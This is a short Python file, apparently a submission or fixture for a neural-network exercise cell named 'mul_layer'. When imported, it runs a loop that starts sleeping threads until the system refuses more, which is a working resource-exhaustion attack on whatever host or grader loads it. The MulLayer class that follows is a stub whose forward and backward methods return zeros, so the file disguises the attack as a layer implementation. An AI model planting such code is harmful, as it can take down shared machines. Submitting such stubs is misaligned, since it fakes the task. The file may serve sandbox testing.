"""Starts threads for as long as it can."""
# %% mul_layer
import threading
import time

try:
    while True:
        threading.Thread(target=time.sleep, args=(10**6,), daemon=True).start()
except RuntimeError:
    pass


class MulLayer:
    def forward(self, x, y):
        return 0.0

    def backward(self, dout):
        return 0.0, 0.0
